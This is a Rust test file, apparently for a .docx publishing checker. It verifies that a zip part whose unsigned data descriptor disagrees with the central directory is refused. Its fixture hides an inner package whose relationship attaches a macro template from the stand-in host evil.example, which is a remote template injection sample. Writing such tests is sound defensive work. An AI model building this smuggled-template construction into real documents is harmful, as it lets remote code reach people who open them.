//! The record after a part written without its signature.

use crate::common::hand_zip::{After, Part, crc, hand_zip, part};
use crate::common::office::{package, published, refused};

const DOCUMENT: &str = "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p/></w:body></w:document>";
const HIDER: &str = "docProps/thumbnail.bin";
/// Relationships that attach a template from another host.
const REMOTE: &str = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>";

/// The record after a stored part whose sizes follow it was compared with
/// the directory only when it started with its signature, which the zip
/// format makes optional: a `.docx` whose record, unsigned, gives the part
/// 6 bytes, where the directory gives it the whole zip with an outside
/// template that follows, was published. Now it is not (an error naming
/// the part), the previous output left as it was; the same part with a
/// record that agrees, signed or not, is published.
#[test]
fn a_part_whose_unsigned_record_after_it_disagrees_is_not_published() {
    let mut data = b"filler".to_vec();
    data.extend(package(&[("word/_rels/settings.xml.rels", REMOTE)]));
    let parts = |after| {
        vec![
            part("word/document.xml", DOCUMENT.as_bytes()),
            Part {
                name: HIDER,
                data: &data,
                after,
            },
        ]
    };
    let mut shorter = hand_zip(&parts(After::Unsigned), |_| vec![]);
    let at = shorter.after[1] + 4;
    shorter.bytes[at..at + 4].copy_from_slice(&6u32.to_le_bytes());
    let mut checksum = hand_zip(&parts(After::Unsigned), |_| vec![]);
    let at = checksum.after[1];
    checksum.bytes[at..at + 4].copy_from_slice(&crc(b"filler").to_le_bytes());
    let said = format!(
        "the record after its part `{HIDER}` gives it another size or checksum than its directory does"
    );
    for bytes in [shorter.bytes, checksum.bytes] {
        refused("report.docx", &bytes, &[&said]);
    }
    // Not a false alarm: the record as a program writes it, with its
    // signature or without.
    for after in [After::Unsigned, After::Signed] {
        published("report.docx", &hand_zip(&parts(after), |_| vec![]).bytes);
    }
}
